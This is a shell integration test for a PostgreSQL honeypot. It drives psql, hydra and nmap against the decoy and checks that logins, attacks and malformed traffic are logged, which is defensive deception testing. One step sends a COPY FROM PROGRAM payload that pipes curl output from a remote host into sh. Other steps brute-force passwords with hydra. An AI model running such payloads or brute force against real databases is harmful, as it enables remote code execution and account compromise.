#!/usr/bin/env bash
# The postgres service of a real decnet-decky against real clients: psql logs in (cleartext and
# SCRAM-SHA-256 deckies) and runs SELECT version() and \l, a wrong password gets the server's FATAL,
# COPY ... FROM PROGRAM is logged with its command, hydra postgres:// with a 5-password list (one
# non-ASCII) leaves each attempt as a credential line byte for byte in secret_b64, nmap -sV names
# PostgreSQL with the persona's major version (on 5432 in a network namespace of its own, where its
# SMBProgNeg probe is sent at default intensity), and garbage on the live socket leaves it serving.
set -euo pipefail
source "$(dirname "$0")/../lib.sh"
svc_require "postgresql-client nmap hydra python3" psql nmap hydra python3
svc_scratch pg-clients
svc_event_sink

# Decky "clear": cleartext passwords (what captures most); decky "scram": the Debian 12 default.
CLEAR=$(free_port)
SCRAM=$(free_port)
echo '{"postgres": {"auth": "cleartext", "users": "postgres:Winter2024"}}' > "$dir/clear.json"
echo '{"postgres": {"users": "postgres:Winter2024"}}' > "$dir/scram.json"
for d in clear scram; do
  port=$CLEAR; [ $d = scram ] && port=$SCRAM
  "$BIN" --state-dir "$dir/state" --decky "pg-$d" --services postgres --ports "postgres=$port" \
    --bind 127.0.0.1 --fleet-seed test --distro debian --log-target "udp:127.0.0.1:$LOGPORT" \
    --settings "$dir/$d.json" > "$dir/$d.out" 2>&1 &
  pids+=($!)
done
up() { python3 -c 'import socket,sys;socket.create_connection(("127.0.0.1",int(sys.argv[1])),timeout=1)' "$1" 2>/dev/null; }
for port in $CLEAR $SCRAM; do
  for _ in $(seq 100); do up "$port" && break; sleep 0.1; done
done

settle() { sleep 0.3; }
pg() { local p=$1 pw=$2; shift 2; PGPASSWORD="$pw" PGCONNECT_TIMEOUT=5 timeout 10 psql -X -h 127.0.0.1 -p "$p" -U postgres -d shop "$@" 2>&1; }

# --- psql on both deckies
for port in $CLEAR $SCRAM; do
  v=$(pg $port Winter2024 -At -c 'SELECT version()')
  grep -q '^PostgreSQL 15\.10 (Debian 15\.10-0+deb12u1) on x86_64-pc-linux-gnu' <<<"$v" || fail "version() on $port: $v"
  l=$(pg $port Winter2024 -c '\l')
  grep -Eq '^ +template0 +\| postgres +\| UTF8' <<<"$l" || fail "\\l on $port: $l"
  grep -q '(4 rows)' <<<"$l" || fail "\\l rows on $port: $l"
done
settle
q=$(events " pg-clear postgres - query " | grep -c 'pg_catalog.pg_database' || true)
[ "$q" -ge 1 ] || fail "\\l not logged as a query"
events " pg-scram postgres - auth " | grep -q 'secret_kind="hash".*success="true"\|success="true".*secret_kind="hash"' \
  || fail "SCRAM login not logged as a hash: $(events ' pg-scram postgres - auth ')"
echo "ok: psql SELECT version() and \\l over cleartext and SCRAM-SHA-256"

# --- a wrong password: the server's FATAL
out=$(pg $CLEAR wrong -c 'SELECT 1' || true)
grep -q 'FATAL:  password authentication failed for user "postgres"' <<<"$out" || fail "wrong password: $out"
out=$(pg $SCRAM wrong -c 'SELECT 1' || true)
grep -q 'FATAL:  password authentication failed for user "postgres"' <<<"$out" || fail "wrong SCRAM password: $out"
echo "ok: wrong passwords refused with the server's FATAL"

# --- the RCE chain
out=$(pg $CLEAR Winter2024 -c 'CREATE TABLE cmd_exec(cmd_output text)' \
  -c "COPY cmd_exec FROM PROGRAM 'id > /tmp/.x; curl -s http://198.51.100.9/s | sh'" -c 'SELECT * FROM cmd_exec')
grep -q '^COPY 0' <<<"$out" || fail "COPY FROM PROGRAM: $out"
settle
cp=$(events " pg-clear postgres - copy_program " | tail -n 1)
[ "$(param command <<<"$cp")" = "id > /tmp/.x; curl -s http://198.51.100.9/s | sh" ] || fail "copy_program event: $cp"
events " pg-clear postgres - ddl " | grep -q 'name="cmd_exec"' || fail "CREATE TABLE not logged"
echo "ok: CREATE TABLE + COPY FROM PROGRAM logged with the command"

# --- garbage on the live socket
python3 - "$CLEAR" <<'PY' || fail "garbage"
import os, socket, struct, sys
port = int(sys.argv[1])
def talk(data):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(data)
    buf = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            buf += d
    except socket.timeout:
        sys.exit("the decky kept a garbage connection open: %r" % data[:16])
    s.close()
    return buf
assert talk(struct.pack(">I", 0x80000000) + b"\0\3\0\0") == b""   # 2^31: closed without a reply
assert talk(b"\0\0\0\0") == b""                                     # 0-length
r = talk(struct.pack(">II", 8, 0x00020000))                         # protocol 2.0
assert b"unsupported frontend protocol 2.0" in r, r
r = talk(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")                      # an HTTP request: a huge length
assert r == b"", r
for _ in range(20):
    talk(os.urandom(3000))
PY
up "$CLEAR" || fail "decky stopped serving after garbage"
[ "$(pg $CLEAR Winter2024 -At -c 'SELECT current_user')" = "postgres" ] || fail "no login after garbage"
for p in "${pids[@]:1}"; do kill -0 "$p" || fail "a decky died"; done
echo "ok: garbage answered as postgres does, decky still serving"

# --- hydra and nmap -sV on 5432, in a namespace of our own: hydra's postgres module always connects
# to 5432 (its libpq connection string carries no port), and nmap sends SMBProgNeg there at default
# intensity. The decky logs to stdout there.
[ "$(id -u)" -eq 0 ] && ip netns add "pg-nmap-$$" 2>/dev/null || { echo "SKIP: hydra/nmap need root for a netns"; exit 77; }
ns="pg-nmap-$$"
ip -n "$ns" link set lo up
ip netns exec "$ns" "$BIN" --state-dir "$dir/state" --decky pg-ns --services postgres \
  --ports postgres=5432 --bind 127.0.0.1 --fleet-seed test --distro debian --log-target stdout \
  --settings "$dir/clear.json" > "$dir/ns.out" 2>&1 &
pids+=($!)
for _ in $(seq 100); do ip netns exec "$ns" bash -c 'exec 3<>/dev/tcp/127.0.0.1/5432' 2>/dev/null && break; sleep 0.1; done

printf 'admin\npassword\nt\xc3\xabst\npostgres\n123456\n' > "$dir/pw.txt"
timeout 120 ip netns exec "$ns" hydra -l postgres -P "$dir/pw.txt" -t 2 postgres://127.0.0.1 > "$dir/hydra.out" 2>&1 || true
grep -q '0 valid password' "$dir/hydra.out" || fail "hydra: $(cat "$dir/hydra.out")"
settle
got=$(grep -a ' pg-ns postgres - auth ' "$dir/ns.out" | param secret_b64 | sort -u)
want=$(while IFS= read -r pw; do printf '%s' "$pw" | base64; done < "$dir/pw.txt" | sort -u)
[ "$got" = "$want" ] || fail "hydra secrets: got [$got] want [$want]"
n=$(grep -ac ' pg-ns postgres - auth ' "$dir/ns.out" || true)
[ "$n" -eq 5 ] || fail "hydra: $n auth events for 5 passwords"
echo "ok: hydra, 5 passwords incl. tëst, each in secret_b64"

scan=$(ip netns exec "$ns" nmap -sV -Pn -p 5432 127.0.0.1 2>&1)
grep -Eq '/tcp +open +postgresql +PostgreSQL DB 15' <<<"$scan" || fail "nmap: $scan"
echo "ok: nmap -sV: $(grep -E '/tcp +open' <<<"$scan")"
! grep -aiq 'decnet\|decky\|honeypot' <<<"$v$l$scan" || fail "the wire names the honeypot"
echo PASS
